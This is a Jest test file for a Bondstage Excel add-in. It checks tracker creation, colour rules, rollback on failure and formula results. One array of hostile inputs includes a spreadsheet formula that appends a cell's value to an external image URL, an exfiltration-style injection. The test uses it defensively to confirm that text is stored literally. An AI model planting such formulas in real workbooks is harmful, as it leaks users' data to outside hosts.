/**
 * The Excel ribbon commands against the in-memory Excel fake: Create partner
 * tracker, Apply stage colours and About, in English and German; the ribbon
 * events completing on success and failure; and the tracker's Excel formulas
 * evaluated in the formula engine after translating structured references.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { applyStageColoursInExcel, createTrackerInExcel } from '../../office/tracker';
import { registerRibbonCommands } from '../../office/ribbon';
import type { Notice } from '../../office/taskpane/notice';
import { NEGATIVE_BALANCE_COLOURS, OVERDUE_COLOURS, STAGE_COLOURS, VCP_COLOURS, isOwnColourRule } from '../../shared/formatting';
import { VCP_LABELS } from '../../shared/messages/next-step';
import { TRACKER_TEXTS } from '../../shared/messages/tracker';
// The layout module itself: the tracker folder's index re-exports it with getters, which cannot be spied on.
import * as trackerLayout from '../../shared/tracker/layout';
import { EXCEL_DIALECT, PARTNER_COLUMNS, columnLetter, planTrackerNames, type PartnerColumnKey } from '../../shared/tracker';
import { excelSerialDate } from '../../shared/dates';
import { formatDay } from '../../shared/messages/next-step';
import { excelEngineOf } from '../support/tracker-engine';
import { type ExcelFake, type ExcelSheetModel, areaAddress, createExcelFake, parseAddress, ribbonEvent } from '../fakes/excel';

const column = (key: PartnerColumnKey) => PARTNER_COLUMNS.findIndex((candidate) => candidate.key === key);
const letter = (key: PartnerColumnKey) => columnLetter(column(key));
const lastLetter = columnLetter(PARTNER_COLUMNS.length - 1);
/** Bondstage's own colour rules on a tracker's partner sheet: 4 stages, overdue, 3 VCP phases, negative balance. */
const OWN_RULES = 9;

async function setup(displayLanguage = 'en-US') {
  const fake = await createExcelFake({ displayLanguage });
  Object.assign(globalThis, { Excel: fake.Excel, Office: fake.Office });
  const notices: Notice[] = [];
  registerRibbonCommands((notice) => notices.push(notice));
  return { fake, notices };
}

async function press(fake: ExcelFake, id: string) {
  const event = ribbonEvent();
  fake.actions.get(id)!(event);
  await event.done;
  return event;
}

afterEach(() => {
  delete (globalThis as Record<string, unknown>).Excel;
  delete (globalThis as Record<string, unknown>).Office;
  jest.restoreAllMocks();
});

describe('the ribbon commands', () => {
  it('associate exactly the ExecuteFunction names of manifest.xml', async () => {
    const { fake } = await setup();
    const manifest = readFileSync(path.join(__dirname, '../../manifest.xml'), 'utf8');
    const names = [...manifest.matchAll(/<FunctionName>([^<]+)<\/FunctionName>/g)].map((match) => match[1]);
    expect([...fake.actions.keys()].sort()).toEqual([...names].sort());
  });

  it('complete their event and report a readable error in the user language when Excel fails', async () => {
    const { fake, notices } = await setup('de-DE');
    fake.Excel.run = () => Promise.reject(new Error('RichApi.Error: The request failed'));
    for (const id of ['createTrackerWithExamples', 'createTracker', 'applyStageColours']) {
      const event = await press(fake, id);
      expect(event.completions).toBe(1);
      expect(notices.at(-1)).toEqual({
        kind: 'error',
        title: TRACKER_TEXTS.de.errorTitle,
        message: TRACKER_TEXTS.de.unexpectedError('RichApi.Error: The request failed'),
      });
    }
  });

  it('complete their event even when the notice cannot be shown', async () => {
    const fake = await createExcelFake();
    Object.assign(globalThis, { Excel: fake.Excel, Office: fake.Office });
    registerRibbonCommands(() => {
      throw new Error('no pane');
    });
    for (const id of ['createTrackerWithExamples', 'createTracker', 'applyStageColours', 'showAbout'])
      expect((await press(fake, id)).completions).toBe(1);
  });

  it('show their outcome in the task pane by default', async () => {
    const fake = await createExcelFake();
    Object.assign(globalThis, { Excel: fake.Excel, Office: fake.Office });
    registerRibbonCommands();
    await press(fake, 'showAbout');
    expect(fake.taskpaneShown).toBe(1);
  });

  it('About shows the research, the citation and the caveat', async () => {
    const { fake, notices } = await setup('de-AT');
    expect((await press(fake, 'showAbout')).completions).toBe(1);
    expect(notices.at(-1)!.title).toBe('Über Bondstage');
    expect(notices.at(-1)!.message).toContain('doi:10.1177/0265407518761225');
    expect(notices.at(-1)!.message).toContain('Durchschnittswerte');
  });
});

describe('Create partner tracker in Excel', () => {
  it('adds three sheets with tables, calculated columns, formats and validation, in 2 syncs', async () => {
    const { fake, notices } = await setup();
    const event = await press(fake, 'createTrackerWithExamples');
    expect(event.completions).toBe(1);
    expect(fake.syncsPerRun).toEqual([2]);
    expect(notices.at(-1)!.kind).toBe('info');
    expect(notices.at(-1)!.message).toMatch(/^Created Partners, Meetings, Checks, Settings and Dashboard\. .*example rows/);

    const { workbook } = fake;
    expect(workbook.sheets.map((sheet) => sheet.name)).toEqual(['Sheet1', 'Partners', 'Meetings', 'Checks', 'Settings', 'Dashboard']);
    expect(workbook.tables.map((table) => [table.name, table.sheet.name, areaAddress(table.area)])).toEqual([
      ['Partners', 'Partners', `A1:${lastLetter}5`],
      ['Meetings', 'Meetings', 'A1:F10'],
      ['Checks', 'Checks', 'A1:L4'],
    ]);
    const partners = workbook.sheet('Partners')!;
    expect(partners.contents(1, PARTNER_COLUMNS.length)[0]).toEqual(PARTNER_COLUMNS.map((c) => c.header.en));
    expect(partners.content(1, column('hoursTogether'))).toBe(
      '=IF(TRIM([@[Partner]])="","",SUM(IF((IFERROR(TRIM(Meetings[[Partner]]),"")=TRIM([@[Partner]])),Meetings[[Hours]]+0,0)))',
    );
    expect(partners.content(4, column('stage'))).toBe('=NETWORK.BONDSTAGE([@[Hours together]],"en",Bondstage_Thresholds)');
    expect(partners.content(1, column('referralReady'))).toBe(
      '=NETWORK.REFERRALREADY([@[Hours together]],[@[Checklist score]],Bondstage_ReadyHours,Bondstage_ReadyScore)',
    );
    expect(partners.content(1, column('nextContactDue'))).toBe(
      '=IF(OR([@[Last contact]]="",[@[Contact every (days)]]=""),"",[@[Last contact]]+[@[Contact every (days)]])',
    );
    expect(typeof workbook.sheet('Meetings')!.content(1, 0)).toBe('number'); // dates as serial numbers
    expect(partners.cell(1, column('progress')).numberFormat).toBe('0%');
    expect(partners.frozen).toEqual({ rows: 1, columns: 1 });
    expect(workbook.sheet('Meetings')!.frozen).toEqual({ rows: 1, columns: 0 });
    expect(partners.columnWidths.get(0)).toBeGreaterThan(100);
    const hours = workbook.sheet('Meetings')!.validationAt(500, 2)!;
    expect(hours.rule).toEqual({ decimal: { formula1: 0, operator: 'GreaterThanOrEqualTo' } });
    expect(hours.errorAlert).toMatchObject({ showAlert: true, message: 'Hours must be a number of 0 or more, e.g. 1.5' });
    expect(workbook.sheet('Meetings')!.validationAt(3, 1)!.rule).toEqual({
      list: { inCellDropDown: true, source: '=INDIRECT("Partners[Partner]")' },
    });
    expect(partners.conditionalFormats).toHaveLength(OWN_RULES);
    expect(workbook.active).toBe(partners);
  });

  it('leaves an existing Partners sheet and table untouched, and uses fresh names', async () => {
    const { fake, notices } = await setup();
    const existing = fake.workbook.addSheet('Partners');
    existing.write(0, 0, 'Name');
    existing.write(1, 0, 'Eva');
    fake.workbook.tables.push({ name: 'Meetings2', sheet: existing, area: parseAddress('C1:D2') });
    const before = JSON.stringify([...existing.cells]);

    await press(fake, 'createTrackerWithExamples');
    expect(JSON.stringify([...existing.cells])).toBe(before);
    // "Meetings2" is taken as a table name, so the set moves on to (3).
    expect(fake.workbook.sheets.map((sheet) => sheet.name)).toEqual([
      'Sheet1',
      'Partners',
      'Partners (3)',
      'Meetings (3)',
      'Checks (3)',
      'Settings (3)',
      'Dashboard (3)',
    ]);
    expect(fake.workbook.table('Partners3')!.sheet.name).toBe('Partners (3)');
    expect(fake.workbook.sheet('Partners (3)')!.content(1, column('hoursTogether'))).toContain('IFERROR(TRIM(Meetings3[[Partner]]),"")');
    expect(notices.at(-1)!.message).toMatch(/^Partners already existed and was left untouched; the new tracker is Partners \(3\)/);
  });

  it('is safe to run twice', async () => {
    const { fake } = await setup();
    await press(fake, 'createTrackerWithExamples');
    const first = JSON.stringify([...fake.workbook.sheet('Partners')!.cells]);
    await press(fake, 'createTrackerWithExamples');
    expect(fake.workbook.sheets.map((sheet) => sheet.name)).toEqual([
      'Sheet1',
      'Partners',
      'Meetings',
      'Checks',
      'Settings',
      'Dashboard',
      'Partners (2)',
      'Meetings (2)',
      'Checks (2)',
      'Settings (2)',
      'Dashboard (2)',
    ]);
    expect(JSON.stringify([...fake.workbook.sheet('Partners')!.cells])).toBe(first);
  });

  it('speaks German for a German Office', async () => {
    const { fake, notices } = await setup('de-DE');
    await press(fake, 'createTrackerWithExamples');
    expect(fake.workbook.sheets.map((sheet) => sheet.name)).toEqual([
      'Sheet1',
      'Partner',
      'Treffen',
      'Checklisten',
      'Einstellungen',
      'Übersicht',
    ]);
    const partners = fake.workbook.sheet('Partner')!;
    expect(partners.content(1, column('stage'))).toBe('=NETWORK.BONDSTAGE([@[Stunden gemeinsam]],"de",Bondstage_Thresholds)');
    expect(partners.content(1, column('hoursTogether'))).toBe(
      '=IF(TRIM([@[Partner]])="","",SUM(IF((IFERROR(TRIM(Treffen[[Partner]]),"")=TRIM([@[Partner]])),Treffen[[Stunden]]+0,0)))',
    );
    expect(notices.at(-1)!.message).toMatch(/^Partner, Treffen, Checklisten, Einstellungen und Übersicht angelegt/);
  });

  it('creates an empty tracker (one blank table row) when asked without examples', async () => {
    const { fake } = await setup();
    await createTrackerInExcel(false, { run: fake.Excel.run, language: () => 'en', today: () => new Date() });
    expect(areaAddress(fake.workbook.table('Partners')!.area)).toBe(`A1:${lastLetter}2`);
    expect(fake.workbook.sheet('Partners')!.content(1, 0)).toBe('');
  });

  it('offers the choice in the ribbon menu: Empty tracker adds no example rows', async () => {
    const { fake, notices } = await setup();
    expect((await press(fake, 'createTracker')).completions).toBe(1);
    expect(notices.at(-1)!.kind).toBe('info');
    expect(fake.workbook.tables.map((table) => areaAddress(table.area))).toEqual([`A1:${lastLetter}2`, 'A1:F2', 'A1:L2']);
    expect(fake.workbook.sheet('Partners')!.content(1, 0)).toBe('');
    expect(fake.workbook.sheet('Meetings')!.content(1, 1)).toBe('');
  });
});

describe('Create partner tracker in Excel keeps what it writes', () => {
  // Texts Excel would otherwise read as a formula, a number, a boolean or a date.
  const HOSTILE = ['=IMAGE("https://example.com/x.png"&A1)', '+49 170 1234567', '-Anna', '@Ben', '007', 'TRUE', '1/2', '1e3'];

  it('stores every text of the example rows as written, and keeps numbers, dates and formulas', async () => {
    const real = trackerLayout.trackerLayouts;
    jest.spyOn(trackerLayout, 'trackerLayouts').mockImplementation((options) =>
      real(options).map((layout) => ({
        ...layout,
        // Every text cell of the example rows becomes one of the hostile texts.
        rows: layout.rows.map((row, r) =>
          row.map((cell, c) => (typeof cell === 'string' && cell !== '' ? HOSTILE[(r + c) % HOSTILE.length] : cell)),
        ),
      })),
    );
    const { fake } = await setup();
    await press(fake, 'createTrackerWithExamples');
    const written = real({
      dialect: EXCEL_DIALECT,
      language: 'en',
      names: planTrackerNames('en', []),
      withExamples: true,
      today: new Date(),
    });
    let texts = 0;
    for (const layout of written) {
      const sheet = fake.workbook.sheet(layout.name)!;
      layout.rows.forEach((row, r) =>
        row.forEach((cell, c) => {
          const stored = sheet.cell(r + 1, c);
          if (typeof cell === 'string' && cell !== '') {
            texts++;
            expect(stored).toMatchObject({ value: HOSTILE[(r + c) % HOSTILE.length], formula: '', numberFormat: '@' });
          } else if (typeof cell === 'number' || cell instanceof Date) {
            expect(stored.value).toBe(cell instanceof Date ? excelSerialDate(cell) : cell);
            expect(stored.numberFormat).toBe(layout.columns[c].numberFormat);
          }
        }),
      );
    }
    expect(texts).toBeGreaterThan(20);
    // Headers are text too; the calculated columns hold formulas, not text.
    const partners = fake.workbook.sheet('Partners')!;
    expect(partners.cell(0, column('partner'))).toMatchObject({ value: 'Partner', numberFormat: '@' });
    expect(partners.cell(1, column('hoursTogether')).formula).toMatch(/^=IF\(/);
    expect(partners.cell(1, column('stage')).formula).toBe('=NETWORK.BONDSTAGE([@[Hours together]],"en",Bondstage_Thresholds)');
    expect(partners.cell(1, column('stage')).numberFormat).not.toBe('@');
    const checks = fake.workbook.sheet('Checks')!;
    expect(typeof checks.cell(1, 2).value).toBe('boolean');
  });

  it('treats a defined name equal to a table name it wants as taken, and creates the tracker beside it', async () => {
    const { fake, notices } = await setup();
    fake.workbook.names.push('partners');
    await press(fake, 'createTrackerWithExamples');
    expect(notices.at(-1)!.kind).toBe('info');
    expect(fake.workbook.sheets.map((sheet) => sheet.name)).toEqual([
      'Sheet1',
      'Partners (2)',
      'Meetings (2)',
      'Checks (2)',
      'Settings (2)',
      'Dashboard (2)',
    ]);
    expect(fake.workbook.tables.map((table) => table.name)).toEqual(['Partners2', 'Meetings2', 'Checks2']);
    expect(fake.syncsPerRun).toEqual([2]);
  });

  it('removes what it added when Excel fails part-way, leaving the workbook as it was', async () => {
    const { fake, notices } = await setup('de-DE');
    const own = fake.workbook.addSheet('Partner');
    own.write(0, 0, 'Name');
    own.write(1, 0, 'Eva');
    fake.workbook.tables.push({ name: 'Kontakte', sheet: own, area: parseAddress('A1:A2') });
    const sheetsBefore = fake.workbook.sheets.map((sheet) => sheet.name);
    const ownBefore = JSON.stringify([...own.cells]);
    fake.failNextSync = { after: 60, message: 'GeneralException: An internal error has occurred.' };

    const event = await press(fake, 'createTrackerWithExamples');
    expect(event.completions).toBe(1);
    expect(notices.at(-1)).toEqual({
      kind: 'error',
      title: TRACKER_TEXTS.de.errorTitle,
      message: TRACKER_TEXTS.de.unexpectedError('GeneralException: An internal error has occurred.'),
    });
    expect(fake.workbook.sheets.map((sheet) => sheet.name)).toEqual(sheetsBefore);
    expect(fake.workbook.tables.map((table) => table.name)).toEqual(['Kontakte']);
    expect(JSON.stringify([...own.cells])).toBe(ownBefore);
    expect(fake.workbook.active.name).toBe('Sheet1');
    // Read, write (failed), then find and remove the added sheets.
    expect(fake.syncsPerRun).toEqual([4]);

    // Trying again gets the same fresh names, not a further set.
    await press(fake, 'createTrackerWithExamples');
    expect(fake.workbook.sheets.map((sheet) => sheet.name)).toEqual([
      ...sheetsBefore,
      'Partner (2)',
      'Treffen (2)',
      'Checklisten (2)',
      'Einstellungen (2)',
      'Übersicht (2)',
    ]);
  });

  it('reports the failure even when removing what it added fails too', async () => {
    const { fake, notices } = await setup();
    fake.failNextSync = { after: 5, message: 'GeneralException: The workbook is busy' };
    const run = fake.Excel.run;
    let runs = 0;
    fake.Excel.run = (batch) =>
      run(async (context) => {
        const sync = context.sync.bind(context);
        // The sync after the failed one (finding the added sheets) fails as well.
        let syncs = 0;
        context.sync = async () => {
          if (++syncs === 3) throw new Error('GeneralException: Still busy');
          return sync();
        };
        runs++;
        return batch(context);
      });
    await press(fake, 'createTracker');
    expect(runs).toBe(1);
    expect(notices.at(-1)!.message).toBe(TRACKER_TEXTS.en.unexpectedError('GeneralException: The workbook is busy'));
  });
});

describe('Apply stage colours in Excel', () => {
  function addUserRule(sheet: ExcelSheetModel) {
    const rule = { area: parseAddress('N2:N100'), type: 'Custom', formula: '=$N2>5', fill: '#ffd700', font: null };
    sheet.conditionalFormats.unshift(rule);
    return rule;
  }

  it('replaces only its own rules, keeps the user rule, and uses at most 2 syncs', async () => {
    const { fake, notices } = await setup();
    await press(fake, 'createTrackerWithExamples');
    const partners = fake.workbook.sheet('Partners')!;
    const userRule = addUserRule(partners);
    const lookalike = {
      area: parseAddress('A2:A100'),
      type: 'Custom',
      formula: '=OR($F2="Friend",$F2="Freundschaft")',
      fill: '#0000ff',
      font: null,
    };
    partners.conditionalFormats.push(lookalike);
    const colourBar = { area: parseAddress('F2:F100'), type: 'DataBar', formula: '', fill: null, font: null };
    partners.conditionalFormats.push(colourBar);

    await press(fake, 'applyStageColours');
    await press(fake, 'applyStageColours');
    expect(fake.syncsPerRun.slice(1)).toEqual([2, 2]);
    expect(partners.conditionalFormats).toEqual(expect.arrayContaining([userRule, lookalike, colourBar]));
    const own = partners.conditionalFormats.filter((format) => isOwnColourRule(format.formula, format.fill));
    const stage = letter('stage');
    const next = letter('nextContactDue');
    const balance = letter('givenBalance');
    const vcp = letter('vcpPhase');
    const stageRule = (label: string, german: string, colours: { background: string; text: string }) => [
      `=OR($${stage}2="${label}",$${stage}2="${german}")`,
      colours.background,
      colours.text,
      `${stage}2:${stage}1048576`,
    ];
    expect(own.map((format) => [format.formula, format.fill, format.font, areaAddress(format.area)])).toEqual([
      stageRule('Acquaintance', 'Bekanntschaft', STAGE_COLOURS.acquaintance),
      stageRule('Casual friend', 'Lockere Freundschaft', STAGE_COLOURS.casualFriend),
      stageRule('Friend', 'Freundschaft', STAGE_COLOURS.friend),
      stageRule('Close friend', 'Enge Freundschaft', STAGE_COLOURS.closeFriend),
      [`=AND(ISNUMBER($${next}2),$${next}2<TODAY())`, OVERDUE_COLOURS.background, OVERDUE_COLOURS.text, `${next}2:${next}1048576`],
      ...(['visibility', 'credibility', 'profitability'] as const).map((phase) => [
        `=OR($${vcp}2="${VCP_LABELS.en[phase]}",$${vcp}2="${VCP_LABELS.de[phase]}")`,
        VCP_COLOURS[phase].background,
        VCP_COLOURS[phase].text,
        `${vcp}2:${vcp}1048576`,
      ]),
      [
        `=AND(ISNUMBER($${balance}2),$${balance}2<0)`,
        NEGATIVE_BALANCE_COLOURS.background,
        NEGATIVE_BALANCE_COLOURS.text,
        `${balance}2:${balance}1048576`,
      ],
    ]);
    expect(notices.at(-1)!.message).toBe(
      'Stage colours applied on Partners, overdue contacts highlighted. Replaced 9 earlier Bondstage rules; kept 3 rules of your own.',
    );
  });

  it('finds a German stage header on any sheet, even when the header starts in a later column', async () => {
    const { fake } = await setup('de-DE');
    const sheet = fake.workbook.active;
    sheet.write(0, 2, 'Name');
    sheet.write(0, 3, 'Stufe');
    await press(fake, 'applyStageColours');
    expect(sheet.conditionalFormats.map((format) => areaAddress(format.area))).toEqual(Array(4).fill('D2:D1048576'));
  });

  it('falls back to the tracker by its headers, not to a user sheet that only shares its name', async () => {
    const { fake } = await setup();
    const own = fake.workbook.addSheet('Partners');
    own.write(0, 0, 'Name');
    own.write(0, 1, 'Stage');
    own.write(1, 0, 'Eva');
    await createTrackerInExcel(false, { run: fake.Excel.run, language: () => 'en', today: () => new Date() });
    const tracker = fake.workbook.sheets.find((sheet) => sheet !== own && sheet.name.startsWith('Partners'))!;
    tracker.conditionalFormats = [];
    fake.workbook.active = fake.workbook.sheet('Sheet1')!;
    await press(fake, 'applyStageColours');
    expect(fake.syncsPerRun.at(-1)).toBe(3);
    expect(tracker.conditionalFormats).toHaveLength(OWN_RULES);
    expect(own.conditionalFormats).toEqual([]);
  });

  it('falls back to the tracker sheet within 3 syncs, and explains when there is no stage column', async () => {
    const { fake, notices } = await setup();
    await createTrackerInExcel(false, { run: fake.Excel.run, language: () => 'en', today: () => new Date() });
    fake.workbook.active = fake.workbook.sheet('Sheet1')!;
    const partners = fake.workbook.sheet('Partners')!;
    partners.conditionalFormats = [];
    await press(fake, 'applyStageColours');
    expect(fake.syncsPerRun.at(-1)).toBe(3);
    expect(partners.conditionalFormats).toHaveLength(OWN_RULES);

    const empty = await setup('de-DE');
    empty.fake.workbook.active.write(0, 0, 'Name');
    const event = await press(empty.fake, 'applyStageColours');
    expect(event.completions).toBe(1);
    expect(empty.notices.at(-1)).toEqual({
      kind: 'error',
      title: TRACKER_TEXTS.de.errorTitle,
      message: TRACKER_TEXTS.de.noStageColumn('Sheet1'),
    });
    expect(empty.fake.workbook.active.conditionalFormats).toEqual([]);
    void notices;
  });
});

describe('the Excel tracker formulas in a formula engine', () => {
  it('give the same hours, last contact, stage and readiness as intended, via structured references translated to A1', async () => {
    const { fake } = await setup();
    await press(fake, 'createTrackerWithExamples');
    const engine = excelEngineOf(fake.workbook);
    const rows = engine.values('Partners').slice(1);
    expect(
      rows.map((row) => [
        row[0],
        row[column('hoursTogether')],
        row[column('stage')],
        row[column('hoursToNext')],
        row[column('referralReady')],
      ]),
    ).toEqual([
      ['Anna Beispiel', 6, 'Acquaintance', 44, ''],
      ['Ben Example', 60, 'Casual friend', 30, false],
      ['Clara Muster', 95, 'Friend', 105, true],
      ['David Sample', 212, 'Close friend', 0, true],
    ]);
    const today = excelSerialDate(new Date());
    expect(rows.map((row) => row[column('lastContact')])).toEqual([today - 2, today - 45, today - 4, today - 40]);
    expect(rows[1][column('nextContactDue')]).toBe(today - 15);
    expect(engine.translatedFormula('Partners', 1, column('hoursTogether'))).toBe(
      '=IF(TRIM($A2)="","",SUM(IF((IFERROR(TRIM(Meetings!$B$2:$B$10),"")=TRIM($A2)),Meetings!$C$2:$C$10+0,0)))',
    );
    // The new columns: recent hours of the last 90 days, the phase, the forecast and the next step, reading the Settings by name.
    expect(rows.map((row) => [row[column('recentHours')], row[column('vcpPhase')], row[column('givenBalance')]])).toEqual([
      [6, 'Visibility', 0],
      [5, 'Visibility', 1],
      [7, 'Profitability', 1],
      [12, 'Profitability', -1],
    ]);
    expect(rows.map((row) => typeof row[column('nextStep')])).toEqual(['string', 'string', 'string', 'string']);
    expect(rows[1][column('nextStep')]).toBe(`Meet – overdue since ${formatDay(today - 15, 'en')}`);
    engine.destroy();
  });
});

describe('the commands without the ribbon', () => {
  it('createTrackerInExcel and applyStageColoursInExcel return their message', async () => {
    const { fake } = await setup();
    const host = { run: fake.Excel.run, language: () => 'de' as const, today: () => new Date() };
    await expect(createTrackerInExcel(false, host)).resolves.toMatch(
      /^Partner, Treffen, Checklisten, Einstellungen und Übersicht angelegt/,
    );
    await expect(applyStageColoursInExcel(host)).resolves.toMatch(/^Stufenfarben auf Partner angewendet/);
  });
});
